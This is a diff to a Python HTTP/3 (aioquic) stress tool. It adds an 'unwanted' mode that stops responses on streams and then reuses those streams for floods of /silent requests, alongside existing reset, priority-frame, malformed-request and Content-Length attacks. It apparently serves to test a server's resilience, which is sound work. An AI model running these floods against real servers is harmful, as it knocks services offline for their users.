@@ -3,6 +3,7 @@
 Attacks:
   initials N     sends the first flights of N clients, and nothing more
   resets N       opens N requests for /silent and resets each before it is answered
+  unwanted N     sends N requests for /silent whose responses were stopped before
   priorities N   sends N PRIORITY_UPDATE frames
   malformed N    sends N requests without a path
   lengths N      sends N requests whose bodies are shorter than their Content-Length
@@ -53,8 +54,8 @@ class Client(QuicConnectionProtocol):
             if isinstance(http, HeadersReceived):
                 self.statuses[http.stream_id] = dict(http.headers)[b":status"].decode()
 
-    def request(self, path=b"/small.txt", end=True):
-        stream = self._quic.get_next_available_stream_id()
+    def request(self, path=b"/small.txt", end=True, stream=None):
+        stream = self._quic.get_next_available_stream_id() if stream is None else stream
         head = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"localhost")]
         self.http.send_headers(stream, head + ([(b":path", path)] if path else []), end_stream=end)
         return stream
@@ -230,6 +231,29 @@ async def stop(client, count):
         client.transmit()
 
 
+async def unwant(client, count):
+    """Stops responses before their requests are sent, whose streams are gone then."""
+    for _ in range(0, count, 50):
+        if not await allowed(client, 50):
+            return
+        streams = []
+        for _ in range(50):
+            streams.append(client._quic.get_next_available_stream_id())
+            client._quic.send_stream_data(streams[-1], b"\x21\0")
+            client._quic.stop_stream(streams[-1], 0x10C)
+        try:
+            # The answers to the first, and their acknowledgements.
+            await client.ping()
+            await client.ping()
+        except ConnectionError:
+            return await client.ended.wait()
+        for stream in streams:
+            client.request(b"/silent", stream=stream)
+        client.transmit()
+        if client.ended.is_set():
+            return
+
+
 async def main():
     authority, address, port, attack, *number = sys.argv[1:]
     number = int(number[0]) if number else 0
@@ -243,6 +267,8 @@ async def main():
         done = None
         if attack == "resets":
             await reset(client, number)
+        elif attack == "unwanted":
+            await unwant(client, number)
         elif attack == "priorities":
             await in_rounds(client, number, lambda: prioritize(client))
         elif attack == "malformed":
